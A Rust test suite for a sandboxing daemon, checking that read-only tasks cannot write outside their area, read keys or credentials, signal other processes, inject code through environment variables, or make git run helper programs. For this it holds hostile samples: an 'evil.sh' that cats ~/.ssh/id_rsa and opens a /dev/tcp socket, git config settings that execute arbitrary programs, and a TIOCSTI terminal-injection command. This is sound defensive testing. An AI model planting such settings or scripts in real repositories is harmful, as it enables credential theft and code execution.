//! What the kernel enforces on a task: a program that tries everything, under the names of known read-only commands.

use crate::CSN;
use countersign_model::{Confinement, Frame, Outcome, Record, RecordContent, RefusalCode, Status};
use countersign_testkit::{TestHome, body};
use serde_json::json;
use std::{
    fs,
    os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink},
    path::{Path, PathBuf},
    process::{Child, Stdio},
};

const PHRASES: &str = include_str!("../../../policy/src/tables/phrases.table");
const GIT_PHRASES: &str = include_str!("../../../policy/src/tables/phrases-git.table");
const NOBODY: u32 = 65534;

fn is_root() -> bool {
    rustix::process::getuid().is_root()
}

/// The program that tries to escape, built beside the tests.
fn escape() -> PathBuf {
    let me = std::env::current_exe().unwrap();
    me.parent().unwrap().with_file_name("examples").join("escape")
}

/// A command that runs outside of any task.
#[expect(clippy::disallowed_methods, reason = "tests drive real programs")]
fn command(program: impl AsRef<std::ffi::OsStr>) -> std::process::Command {
    std::process::Command::new(program)
}

/// A daemon with targets: directories to write to, keys to read, processes to signal.
struct TargetRange {
    daemon: TestHome,
    victim: Child,
    targets: String,
    /// A directory with programs that are not what their names say.
    bin: PathBuf,
    setuid: Option<PathBuf>,
}

impl Drop for TargetRange {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
        if let Some(program) = &self.setuid {
            let _ = fs::remove_file(program);
        }
    }
}

/// A directory that can be changed in every way.
fn make_target(directory: &Path) {
    fs::create_dir_all(directory.join("empty")).unwrap();
    fs::write(directory.join("victim"), "victim\n").unwrap();
    fs::copy(escape(), directory.join("program")).unwrap();
    fs::set_permissions(directory.join("victim"), fs::Permissions::from_mode(0o644)).unwrap();
}

/// Everything about a directory that a task could have changed.
fn directory_state(directory: &Path) -> Vec<String> {
    let of = |path: &Path| {
        let m = fs::symlink_metadata(path).unwrap();
        format!(
            "{} {:o} {} {} {} {}.{}",
            path.display(),
            m.mode(),
            m.uid(),
            m.nlink(),
            m.size(),
            m.mtime(),
            m.ctime_nsec()
        )
    };
    let mut all: Vec<String> = fs::read_dir(directory).unwrap().map(|e| of(&e.unwrap().path())).collect();
    all.push(of(directory));
    all.sort();
    all
}

impl TargetRange {
    fn new(user: Option<u32>) -> Self {
        let daemon = match user {
            Some(user) => TestHome::for_user(CSN, user),
            None => TestHome::new(CSN),
        };
        let base = daemon.base().to_owned();
        let (work, other, bin) = (daemon.work(), base.join("other"), base.join(".local/bin"));
        for directory in [&work, &other, &base] {
            make_target(directory);
        }
        let mut targets = String::new();
        for (name, directory) in [("root", &work), ("other", &other), ("home", &base)] {
            targets += &format!("write.{name}={}\n", directory.display());
        }
        let secrets = [
            ("ssh", base.join(".ssh/id_ed25519")),
            ("history", base.join(".bash_history")),
            ("aws", base.join(".aws/credentials")),
            ("env", work.join(".env")),
            ("pem", work.join("server.pem")),
            ("other", other.join("victim")),
        ];
        for (name, path) in secrets {
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, "secret\n").unwrap();
            targets += &format!("read.{name}={}\n", path.display());
        }
        targets += &format!("read.ledger={}\n", daemon.home().join("ledger.db").display());
        targets += &format!("read.key={}\n", daemon.home().join("keys/digest.key").display());
        targets += "read.shadow=/etc/shadow\n";
        fs::create_dir_all(&bin).unwrap();
        fs::copy(escape(), bin.join("escape")).unwrap();
        let mut victim = command("sleep");
        victim.arg("600").stdin(Stdio::null()).stdout(Stdio::null()).env("SECRET", "of another");
        if let Some(user) = user {
            std::os::unix::process::CommandExt::uid(&mut victim, user);
        }
        let victim = victim.spawn().unwrap();
        targets += &format!("pid.victim={}\n", victim.id());
        let mut setuid = None;
        if is_root() {
            let program = PathBuf::from(format!("/usr/local/bin/csn-escape-{}", std::process::id()));
            if fs::copy(escape(), &program).is_ok() {
                fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
                targets += &format!("setuid={}\n", program.display());
                setuid = Some(program);
            }
        }
        daemon.give_to_user();
        Self { daemon, victim, targets, bin, setuid }
    }

    fn start(&mut self, mode: &str) {
        self.daemon.start();
        self.targets += &format!("pid.daemon={}\n", self.daemon.daemon_pid());
        self.mode(mode);
    }

    fn mode(&self, mode: &str) {
        fs::write(self.bin.join("escape.targets"), format!("{}mode={mode}\n", self.targets)).unwrap();
        self.daemon.give_to_user();
    }

    /// Replaces a program by the escaping program.
    fn name(&self, program: &str) {
        let link = self.bin.join(program);
        if !link.exists() {
            symlink(self.bin.join("escape"), link).unwrap();
        }
    }

    /// Has the daemon run a command that finds programs in a directory that anyone may write.
    fn run(&self, text: &str, more: &[&str]) -> (i32, String, String) {
        let path = format!("{}:{}", self.bin.display(), std::env::var("PATH").unwrap());
        let args = [&["run", "--unattended"], more, &[text]].concat();
        let out = self.daemon.csn_with(&args, &[("PATH", &path)]);
        let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
        (out.status.code().unwrap_or(-1), text(out.stdout), text(out.stderr))
    }
}

/// The example commands of the read-only tables, one for each program and phrase.
fn examples() -> Vec<String> {
    let of =
        |table: &str| table.lines().filter_map(|l| l.strip_prefix("  yes ")).map(str::to_owned).collect::<Vec<_>>();
    [of(PHRASES), of(GIT_PHRASES)].concat()
}

fn nothing_gets_out(user: Option<u32>, config: &str) {
    let mut range = TargetRange::new(user);
    range.daemon.configure(config);
    range.daemon.give_to_user();
    range.start("everything");
    for program in ["seq", "xargs"] {
        range.name(program);
    }
    let before: Vec<_> =
        [range.daemon.work(), range.daemon.base().join("other")].iter().map(|d| directory_state(d)).collect();
    let (mut ran, mut not) = (0, Vec::new());
    for example in examples() {
        let program = example.split_whitespace().next().unwrap().to_owned();
        range.name(&program);
        let (code, out, err) = range.run(&example, &[]);
        if !out.contains("tried ") {
            not.push(format!("{example}: {code} {err}"));
            continue;
        }
        assert!(!out.contains("ESCAPED"), "{example}:\n{out}\n{err}");
        let tried: u32 = out.split("tried ").nth(1).unwrap().split_whitespace().next().unwrap().parse().unwrap();
        assert!(tried > 300, "{example}: only {tried} ways were tried");
        ran += 1;
    }
    // Some are builtins, or run these programs only as words of others.
    assert!(ran > 100, "only {ran} ran; not these:\n{}", not.join("\n"));
    let after: Vec<_> =
        [range.daemon.work(), range.daemon.base().join("other")].iter().map(|d| directory_state(d)).collect();
    assert_eq!(before, after, "nothing of it has changed");
    assert!(range.victim.try_wait().unwrap().is_none(), "it still runs");
    let left = fs::read_dir(range.daemon.home().join("tasks")).unwrap().flatten();
    let left = left.flat_map(|shard| fs::read_dir(shard.path()).unwrap().flatten());
    assert!(left.map(|task| task.path().join("tmp")).all(|tmp| !tmp.exists()), "temporary files are gone");
}

#[test]
fn nothing_gets_out_of_a_read_only_task() {
    nothing_gets_out(None, "");
}

#[test]
fn nothing_gets_out_of_a_read_only_task_of_an_ordinary_user() {
    if is_root() {
        nothing_gets_out(Some(NOBODY), "");
    }
}

/// Where the kernel has no scopes, seccomp replaces them: the sandbox is complete there, too.
#[test]
fn nothing_gets_out_of_a_read_only_task_on_an_older_kernel() {
    nothing_gets_out(None, "[confine]\nlandlock = 3\n");
}

/// The suite can fail: without confinement the same program escapes nearly everywhere.
#[test]
fn without_confinement_the_same_program_gets_out() {
    let range = TargetRange::new(None);
    fs::create_dir_all(range.daemon.home().join("keys")).unwrap();
    fs::write(range.daemon.home().join("keys/digest.key"), "key").unwrap();
    range.mode("everything");
    let mut open = command(range.bin.join("escape"));
    let out = open.current_dir(range.daemon.work()).env("TMPDIR", range.daemon.base()).output().unwrap();
    let out = String::from_utf8_lossy(&out.stdout).into_owned();
    for what in [
        "write.root: open to write",
        "write.other: rename",
        "write.home: chmod",
        "write.root: chattr",
        "write.root: execute",
        "read.ssh: read",
        "read.env: read",
        "read.key: read",
        "pid.victim: kill\n",
        "pid.victim: trace",
        "pid.victim: read its memory",
        "pid.victim: /proc/PID/environ",
        "pid.victim: set its limits",
        "socket of family 1, kind 1",
        "socket of family 2, kind 2",
        "pair of kind 3, which takes addresses",
        "shared memory of nobody",
        "memfd",
        "a program that it has written",
    ] {
        assert!(out.contains(&format!("ESCAPED {what}")), "{what}:\n{out}");
    }
    let escaped: u32 = out.split(" escaped ").nth(1).unwrap().split_whitespace().next().unwrap().parse().unwrap();
    assert!(escaped > 120, "{escaped}");
}

#[test]
fn the_resources_of_a_read_only_task_are_limited() {
    let mut range = TargetRange::new(None);
    range.start("forks");
    range.name("ls");
    let (code, _, err) = range.run("ls", &[]);
    assert!(code == 124 && err.contains("the limit of processes"), "{code} {err}");
    range.mode("memory");
    let (code, _, err) = range.run("ls", &[]);
    assert!(code == 124 && err.contains("memory limit"), "{code} {err}");
    range.mode("disk");
    let (_, out, err) = range.run("ls", &[]);
    let wrote: u64 = out.trim().strip_prefix("wrote ").map_or(0, |n| n.parse().unwrap());
    assert!(wrote <= 256, "{out} {err}");
    for (mode, says) in
        [("threads", "the limit of processes"), ("zombies", "the limit of processes"), ("files", "TMPDIR")]
    {
        range.mode(mode);
        let (code, out, err) = range.run("ls", &[]);
        assert!(code == 124 && err.contains(says), "{mode}: {code} {out} {err}");
    }
    range.mode("closed");
    let (_, out, err) = range.run("ls", &["--json"]);
    assert!(out.contains("left"), "{out} {err}");
    let tasks = fs::read_dir(range.daemon.home().join("tasks")).unwrap().flatten();
    let mut left = tasks.flat_map(|shard| fs::read_dir(shard.path()).unwrap().flatten()).map(|t| t.path().join("tmp"));
    assert!(left.all(|tmp| !tmp.exists()), "whatever state it was left in");
    range.mode("output");
    let (code, out, _) = range.run("ls", &["--json"]);
    assert_eq!(code, 0);
    let records = out.lines().map(|l| Record::parse(l).unwrap().what);
    let closed = records.filter_map(|w| match w {
        RecordContent::Frame(Frame::Closed { streams, .. }) => Some(streams),
        _ => None,
    });
    let total = closed.collect::<Vec<_>>().remove(0).into_values().next().unwrap();
    assert!(total.bytes <= 258 << 20 && total.bytes + total.dropped == 2 << 30, "{total:?}");
}

/// A task that a person allowed has a terminal: it cannot type into it, though the terminal is its own.
#[test]
fn a_sandboxed_task_cannot_type_into_its_terminal() {
    let mut range = TargetRange::new(None);
    range.start("everything");
    let work = range.daemon.work();
    fs::write(work.join("escape.targets"), "").unwrap();
    for confinement in ["read_only", "workspace"] {
        let with = json!({"confinement": confinement, "execution_mode": "pty"});
        let task =
            range.daemon.ask_open("python3 -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b\"x\")'", with);
        let state = range.daemon.settled(task);
        let said = String::from_utf8_lossy(&range.daemon.output(task, countersign_model::StreamName::Pty)).into_owned();
        assert!(
            state.outcome() != Some(&Outcome::Exited { code: 0 }) && said.contains("Operation not permitted"),
            "{said}"
        );
        assert_eq!(state.confinement().map(Confinement::as_str), Some(confinement));
    }
}

/// Settings of a repository that make git run a program.
fn settings_that_run(run: &str, work: &Path) -> Vec<String> {
    vec![
        format!("core.fsmonitor '{run}'"),
        format!("diff.external '{run}'"),
        format!("diff.evil.textconv '{run}'"),
        format!("diff.evil.command '{run}'"),
        format!("filter.evil.clean '{run}'"),
        format!("filter.evil.smudge '{run}'"),
        format!("filter.evil.process '{run}'"),
        format!("core.pager '{run}'"),
        format!("pager.log '{run}'"),
        format!("core.editor '{run}'"),
        format!("core.sshCommand '{run}'"),
        format!("core.alternateRefsCommand '{run}'"),
        format!("gpg.program '{run}'"),
        format!("alias.status '!{run}'"),
        format!("alias.st '!{run}'"),
        format!("core.hooksPath {}", work.display()),
        format!("credential.helper '!{run}'"),
        "log.showSignature true".to_owned(),
        format!("include.path {}/included", work.display()),
    ]
}

/// Every program that git can be configured to run does run, and escapes nowhere.
#[test]
fn programs_that_a_repository_makes_git_run_are_sandboxed() {
    let daemon = TestHome::started(CSN);
    let (base, work) = (daemon.base().to_owned(), daemon.work());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    fs::create_dir_all(base.join(".ssh")).unwrap();
    fs::write(base.join(".ssh/id_rsa"), "STOLEN\n").unwrap();
    let evil = work.join("evil.sh");
    let script = format!(
        "#!/bin/sh\necho RAN \"$1\" >&2\n\
         for d in {work} {base} {base}/elsewhere /tmp /var/tmp /dev/shm; do echo x > $d/pwned-{port}; done\n\
         cat {base}/.ssh/id_rsa >&2\n\
         bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'\n\
         cat \"$1\" 2> /dev/null; exit 0\n",
        work = work.display(),
        base = base.display(),
    );
    fs::write(&evil, script).unwrap();
    fs::create_dir_all(base.join("elsewhere")).unwrap();
    let run = format!("sh {}", evil.display());
    let sh = |text: &str| {
        let out = daemon.outside(&["bash", "-c", text]);
        assert!(out.status.success(), "{text}: {}", String::from_utf8_lossy(&out.stderr));
    };
    let author = "-c user.name=a -c user.email=a@b";
    sh(&format!(
        "git init -q -b main . && echo one > a.txt && git add a.txt && git {author} commit -qm one && echo two > a.txt"
    ));
    let settings = settings_that_run(&run, &work);
    fs::write(work.join("included"), format!("[core]\n\tfsmonitor = {run}\n[diff]\n\texternal = {run}\n")).unwrap();
    fs::write(work.join(".git/info/attributes"), "* diff=evil filter=evil\n").unwrap();
    fs::write(work.join("post-index-change"), format!("#!/bin/sh\nexec {run}\n")).unwrap();
    sh("chmod +x post-index-change evil.sh");
    let pwned = || {
        let places =
            [work.clone(), base.clone(), base.join("elsewhere"), "/tmp".into(), "/var/tmp".into(), "/dev/shm".into()];
        places.into_iter().map(|d| d.join(format!("pwned-{port}"))).filter(|p| p.exists()).collect::<Vec<_>>()
    };
    let (mut ran, mut refused) = (0, 0);
    for setting in &settings {
        let (name, _) = setting.split_once(' ').unwrap();
        sh(&format!("git config {setting}"));
        for text in [
            "git status",
            "git diff",
            "git log -p -1",
            "git show HEAD",
            "git blame a.txt",
            "git ls-files -m",
            "git diff --cached",
        ] {
            let task = daemon.ask_with(text, json!({"profile": "safe"}));
            assert_ne!(task.status, Status::Queued, "{text}");
            let state = daemon.settled(task.task_id);
            assert_eq!(state.confinement(), Some(Confinement::ReadOnly));
            let said = daemon.output(task.task_id, countersign_model::StreamName::Stderr);
            let said = String::from_utf8_lossy(&said).into_owned() + &daemon.stdout(task.task_id);
            assert!(!said.contains("STOLEN"), "{name}, {text}: {said}");
            ran += usize::from(said.contains("RAN"));
            refused += usize::from(said.contains("Permission denied") || said.contains("Operation not permitted"));
        }
        assert_eq!(pwned(), Vec::<PathBuf>::new(), "{name}");
        sh(&format!("git config --unset {name}"));
    }
    assert!(listener.accept().is_err(), "no connection arrived");
    assert!(ran > 10 && refused > 10, "the helpers ran {ran} times and were refused {refused} times");
    // The helper is not harmless: run outside of a task it does all of that.
    sh(&run);
    assert!(pwned().len() >= 4 && listener.accept().is_ok());
    pwned().into_iter().for_each(|p| fs::remove_file(p).unwrap());
}

#[test]
fn variables_that_inject_code_do_not_reach_a_read_only_task() {
    let daemon = TestHome::started(CSN);
    let work = daemon.work();
    fs::write(work.join("evil.c"), "").unwrap();
    let inherit = json!({"PATH": std::env::var("PATH").unwrap(), "HOME": daemon.base(), "LD_PRELOAD": "/x.so", "BASH_ENV": work.join("rc"), "EDITOR": "vi", "GIT_SSH_COMMAND": "x"});
    fs::write(work.join("rc"), "echo INJECTED\n").unwrap();
    let task =
        daemon.ask_with("ls; echo \"[$EDITOR$LD_PRELOAD]\"", json!({"profile": "safe", "args": {"inherit": inherit}}));
    daemon.settled(task.task_id);
    let said = daemon.stdout(task.task_id);
    assert!(said.ends_with("[]\n") && !said.contains("INJECTED"), "{said}");
    let exposed = daemon.frame(task.task_id, |f| matches!(f, Frame::EnvExposed { .. }));
    let Frame::EnvExposed { names, class, .. } = exposed else { panic!() };
    assert_eq!(class, countersign_model::EnvClass::Base);
    let names: Vec<&str> = names.iter().map(|n| n.as_str()).collect();
    assert!(
        names.contains(&"GIT_CONFIG_GLOBAL") && names.contains(&"TMPDIR") && !names.contains(&"EDITOR"),
        "{names:?}"
    );
    // A named variable would reach the task: then a person is asked.
    let named = json!({"profile": "safe", "attended": false, "args": {"env": {"LD_PRELOAD": "/x.so"}}});
    assert_eq!(daemon.refused("ls", named).0.code, RefusalCode::ApprovalRequiredUnattended);
    // A program of the workspace that has a known name is not the known program.
    fs::create_dir(work.join("bin")).unwrap();
    fs::copy(escape(), work.join("bin/ls")).unwrap();
    let path = format!("{}:{}", work.join("bin").display(), std::env::var("PATH").unwrap());
    let shadowed =
        json!({"profile": "safe", "attended": false, "args": {"inherit": {"PATH": path, "HOME": daemon.base()}}});
    assert_eq!(daemon.refused("ls", shadowed).0.code, RefusalCode::ApprovalRequiredUnattended);
}

/// A file that is replaced by a link between the check and the read leads nowhere.
#[test]
fn a_swapped_link_leads_nowhere() {
    let daemon = TestHome::started(CSN);
    let (base, work) = (daemon.base().to_owned(), daemon.work());
    fs::create_dir_all(base.join(".ssh")).unwrap();
    fs::write(base.join(".ssh/id_rsa"), "STOLEN\n").unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapping = {
        let (stop, work, base) = (stop.clone(), work.clone(), base.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                fs::write(work.join("next"), "plain\n").unwrap();
                fs::rename(work.join("next"), work.join("notes")).unwrap();
                symlink(base.join(".ssh/id_rsa"), work.join("next")).unwrap();
                fs::rename(work.join("next"), work.join("notes")).unwrap();
            }
        })
    };
    let (mut plain, mut walled) = (0, 0);
    for _ in 0..150 {
        let Ok(task) = daemon.client().ask(&daemon.request("cat notes", json!({"profile": "safe", "attended": false})))
        else {
            continue;
        };
        daemon.settled(task.task_id);
        let said = daemon.stdout(task.task_id);
        assert!(!said.contains("STOLEN"), "{said}");
        plain += usize::from(said.contains("plain"));
        let err = daemon.output(task.task_id, countersign_model::StreamName::Stderr);
        walled += usize::from(String::from_utf8_lossy(&err).contains("Permission denied"));
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapping.join().unwrap();
    println!("{plain} read the file, {walled} met the wall");
    assert!(plain > 0, "some of them ran");
}

#[test]
fn a_task_that_its_sandbox_stopped_gets_a_note_of_one_line() {
    let daemon = TestHome::started(CSN);
    let locked = daemon.work().join("locked");
    fs::write(&locked, "x").unwrap();
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o0)).unwrap();
    let out = daemon.csn(&["run", "cat locked"]);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let note = "this task ran sandboxed (read-only)";
    assert_eq!((out.status.code(), err.matches(note).count()), (Some(1), 1), "{err}");
    assert!(err.contains("--confinement shield"), "{err}");
    let task = daemon.client().tasks(&body(json!({"limit": 1}))).unwrap().tasks.remove(0).task_id;
    let state = daemon.client().task(&task.to_string()).unwrap();
    assert!(state.aftermath.note.unwrap().as_str().contains(note));
    // The note appears neither for other failures nor for success.
    for text in ["grep nothing /dev/null", "cat locked || true"] {
        let out = daemon.csn(&["run", text]);
        assert!(!String::from_utf8_lossy(&out.stderr).contains("this task ran sandboxed"), "{text}");
    }
    // The note is right: with that option a person is asked, and the command runs without a sandbox.
    let task = daemon.ask_open("cat locked", json!({}));
    let state = daemon.settled(task);
    assert_eq!(state.confinement(), Some(Confinement::Shield));
    assert_eq!(state.outcome(), Some(&Outcome::Exited { code: if is_root() { 0 } else { 1 } }));
}

/// On a kernel that cannot enforce the sandbox, read-only commands and workspace commands need approval; nothing runs
/// unconfined without one.
#[test]
fn on_an_older_kernel_commands_need_approval_instead() {
    let daemon = TestHome::new(CSN);
    daemon.configure("[confine]\nlandlock = 2\n");
    daemon.start();
    let asked = daemon.ask_with("ls", json!({"profile": "safe"}));
    assert_eq!(asked.status, Status::Queued);
    assert_eq!(daemon.ask_with("touch x", json!({})).status, Status::Queued, "full_auto asks, too");
    assert_eq!(daemon.refused("touch x", json!({"confinement": "workspace"})).0.code, RefusalCode::CannotConfine);
    let task = daemon.ask_open("true", json!({}));
    let state = daemon.settled(task);
    let missing: Vec<String> = state.enforced().unwrap().missing.iter().map(|m| m.as_str().to_owned()).collect();
    assert_eq!(
        (state.confinement(), missing),
        (Some(Confinement::Shield), ["signals", "abstract sockets", "tracing"].map(str::to_owned).to_vec())
    );
    let shown = String::from_utf8(daemon.csn(&["show", &task.to_string()]).stdout).unwrap();
    assert!(
        shown.contains("not sandboxed")
            && shown.contains("this kernel does not restrict signals, abstract sockets, tracing"),
        "{shown}"
    );
    let doctor = String::from_utf8(daemon.csn(&["doctor"]).stdout).unwrap();
    assert!(doctor.contains("asks for approval instead"), "{doctor}");

    let daemon = TestHome::new(CSN);
    daemon.configure("[confine]\nlandlock = 5\n");
    daemon.start();
    let reads = daemon.ask_with("ls", json!({"profile": "safe"}));
    let enforced = daemon.settled(reads.task_id).enforced().cloned().unwrap();
    assert_eq!((enforced.landlock, enforced.seccomp, enforced.missing.len()), (5, true, 0));
    assert_eq!(
        daemon.ask_with("timeout 5 ls", json!({"profile": "safe"})).status,
        Status::Queued,
        "the task could not end it"
    );
}

#[test]
fn a_shield_only_keeps_a_task_from_other_processes() {
    let range = TargetRange::new(None);
    let daemon = &range.daemon;
    daemon.start();
    let pid = range.victim.id();
    let shielded = |text: &str| {
        let task = daemon.ask_open(text, json!({}));
        let state = daemon.settled(task);
        assert_eq!(state.confinement(), Some(Confinement::Shield), "{text}");
        let err = String::from_utf8_lossy(&daemon.output(task, countersign_model::StreamName::Stderr)).into_owned();
        (state.outcome().unwrap().exit_code(), daemon.stdout(task), err, state.aftermath.note)
    };
    let (code, _, err, note) = shielded(&format!("kill {pid}"));
    assert!(code == 1 && err.contains("Operation not permitted") && note.is_some(), "{err}");
    // Root may read the environment of others whatever confines it; tracing it may not.
    let file = if is_root() { "mem" } else { "environ" };
    let (code, ..) = shielded(&format!("cat /proc/{pid}/{file}"));
    assert_eq!(code, 1, "{file}");
    let (code, ..) = shielded("kill -9 $PPID");
    assert_eq!(code, 1, "not its supervisor either");
    let (code, out, err, _) = shielded(
        "set -e; mkdir -p a b; touch a/f; mv a/f b/f; ln b/f b/g; test -e b/g; sleep 9 & kill $!; ! wait $!; echo fine",
    );
    assert!(code == 0 && out.contains("fine"), "{out}{err}");
    let (code, out, ..) = shielded("grep NoNewPrivs /proc/self/status");
    assert_eq!((code, out.contains('1')), (0, true));
    if is_root() {
        let script = "exec unshare -m bash -c 'mount -t tmpfs none /mnt && touch /mnt/x'";
        fs::write(daemon.work().join("mount.sh"), script).unwrap();
        let (code, _, err, _) = shielded("bash mount.sh");
        assert_eq!(code, 0, "root's other rights remain: {err}");
    }
    // A command that needs other privileges cannot be shielded: if allowed, it runs as it is, and the record says so.
    let task = daemon.ask_open("sudo -n true", json!({"confinement": null}));
    assert_eq!(daemon.settled(task).confinement(), Some(Confinement::None));
}

/// With permission to read everywhere, keys are still protected.
#[test]
fn reading_everywhere_stops_at_keys() {
    let daemon = TestHome::new(CSN);
    let base = daemon.base().to_owned();
    for (path, text) in [(".ssh/id_rsa", "STOLEN"), ("docs/plain", "plain"), (".config/gh/hosts.yml", "STOLEN")] {
        fs::create_dir_all(base.join(path).parent().unwrap()).unwrap();
        fs::write(base.join(path), text).unwrap();
    }
    daemon.configure("[audience.personal]\nread = \"all\"\n");
    daemon.start();
    let read = |text: String| {
        let task = daemon.ask_with(&text, json!({"profile": "safe"}));
        (task.status != Status::Queued).then(|| {
            daemon.settled(task.task_id);
            daemon.stdout(task.task_id)
        })
    };
    assert_eq!(read(format!("cat {}/docs/plain", base.display())).as_deref(), Some("plain"));
    assert!(read("cat /etc/hostname".to_owned()).is_some());
    assert_eq!(read(format!("cat {}/.ssh/id_rsa", base.display())), None);
    // This holds for whatever a program walks through: the kernel knows the places of keys.
    let bin = base.join(".local/bin");
    fs::create_dir_all(&bin).unwrap();
    let script = format!("#!/bin/sh\ncat {0}/docs/plain {0}/.ssh/id_rsa {0}/.config/gh/hosts.yml\n", base.display());
    fs::write(bin.join("ls"), script).unwrap();
    fs::set_permissions(bin.join("ls"), fs::Permissions::from_mode(0o755)).unwrap();
    let inherit = json!({"HOME": base, "PATH": format!("{}:{}", bin.display(), std::env::var("PATH").unwrap())});
    let task = daemon.ask_with("ls", json!({"profile": "safe", "args": {"inherit": inherit}}));
    daemon.settled(task.task_id);
    let err = String::from_utf8_lossy(&daemon.output(task.task_id, countersign_model::StreamName::Stderr)).into_owned();
    assert_eq!((daemon.stdout(task.task_id).as_str(), err.matches("Permission denied").count()), ("plain", 2), "{err}");
}

/// The request's own statements about its environment allow nothing more.
#[test]
fn a_requesters_own_configuration_widens_no_sandbox() {
    let daemon = TestHome::started(CSN);
    let (base, work) = (daemon.base().to_owned(), daemon.work());
    fs::create_dir_all(base.join("private")).unwrap();
    fs::write(base.join("private/diary"), "DIARY\n").unwrap();
    fs::write(work.join("cat.sh"), format!("cat {}/private/diary /etc/hosts.equiv-none; false", base.display()))
        .unwrap();
    let sh = |text: &str| assert!(daemon.outside(&["bash", "-c", text]).status.success(), "{text}");
    sh("git init -q . && git config core.fsmonitor 'sh cat.sh'");
    let config = format!("[core]\n\texcludesFile = {}/private\n[blame]\n\tignoreRevsFile = /\n", base.display());
    for dir in ["xdg/git", "fake/.config/git"] {
        fs::create_dir_all(work.join(dir)).unwrap();
        fs::write(work.join(dir).join("config"), &config).unwrap();
    }
    fs::write(work.join("fake/.gitconfig"), &config).unwrap();
    // The user's own configuration may name files, but no directories.
    fs::write(base.join(".gitconfig"), config.replace("\n\texcludesFile = ", "\n\tattributesFile = ")).unwrap();
    let (path, mut ran) = (std::env::var("PATH").unwrap(), 0);
    for inherit in [
        json!({"HOME": base, "PATH": path}),
        json!({"HOME": base, "PATH": path, "XDG_CONFIG_HOME": work.join("xdg")}),
        json!({"HOME": work.join("fake"), "PATH": path}),
    ] {
        let with = json!({"profile": "safe", "args": {"inherit": inherit}});
        let task = daemon.ask_with("git status --short", with);
        if task.status == Status::Queued {
            continue;
        }
        daemon.settled(task.task_id);
        let err = daemon.output(task.task_id, countersign_model::StreamName::Stderr);
        let said = String::from_utf8_lossy(&err).into_owned() + &daemon.stdout(task.task_id);
        assert!(said.contains("Permission denied") && !said.contains("DIARY"), "{inherit}: {said}");
        ran += 1;
    }
    assert!(ran >= 2, "{ran}");
}

/// Keys are recognised by their place, whatever the home is called, and by their name, in upper or lower case.
#[test]
fn keys_are_protected_under_every_name() {
    use std::os::unix::ffi::OsStrExt as _;
    let daemon = TestHome::new(CSN);
    let real = daemon.base().join("big/me");
    fs::create_dir_all(real.join(".ssh")).unwrap();
    fs::write(real.join(".ssh/id_rsa"), "STOLEN").unwrap();
    symlink(&real, daemon.base().join("link")).unwrap();
    daemon.start();
    assert!(daemon.outside(&["git", "init", "-q", daemon.base().join("big").to_str().unwrap()]).status.success());
    let inherit = json!({"HOME": daemon.base().join("link"), "PATH": std::env::var("PATH").unwrap()});
    let with = json!({"profile": "safe", "args": {"cwd": daemon.base().join("big"), "inherit": inherit}});
    let asked = daemon.ask_with("rg --hidden STOLEN", with);
    if asked.status != Status::Queued {
        daemon.settled(asked.task_id);
        assert!(!daemon.stdout(asked.task_id).contains("STOLEN"));
    }
    let odd = daemon.work().join(std::ffi::OsStr::from_bytes(b"\xff.pem"));
    fs::write(&odd, "STOLEN").unwrap();
    let task = daemon.ask_with("grep -r STOLEN .", json!({"profile": "safe"}));
    daemon.settled(task.task_id);
    assert!(!daemon.stdout(task.task_id).contains("STOLEN"), "{}", daemon.stdout(task.task_id));
    // What a toolchain stores beside its programs, and what a configuration mentions.
    for (path, text) in [
        (".local/share/uv/credentials/credentials.toml", "STOLEN"),
        (".gitconfig", "[user]\n\tname = A\n# old token: STOLEN\n"),
    ] {
        let at = daemon.base().join(path);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        fs::write(at, text).unwrap();
    }
    let bin = daemon.base().join(".local/bin");
    fs::create_dir_all(&bin).unwrap();
    let script = format!(
        "#!/bin/sh\ncat {0}/.local/share/uv/credentials/credentials.toml {0}/.gitconfig\n",
        daemon.base().display()
    );
    fs::write(bin.join("ls"), script).unwrap();
    fs::set_permissions(bin.join("ls"), fs::Permissions::from_mode(0o755)).unwrap();
    let inherit =
        json!({"HOME": daemon.base(), "PATH": format!("{}:{}", bin.display(), std::env::var("PATH").unwrap())});
    let task = daemon.ask_with("ls", json!({"profile": "safe", "args": {"inherit": inherit}}));
    daemon.settled(task.task_id);
    let err = String::from_utf8_lossy(&daemon.output(task.task_id, countersign_model::StreamName::Stderr)).into_owned();
    assert!(err.matches("Permission denied").count() == 2 && !daemon.stdout(task.task_id).contains("STOLEN"), "{err}");
}
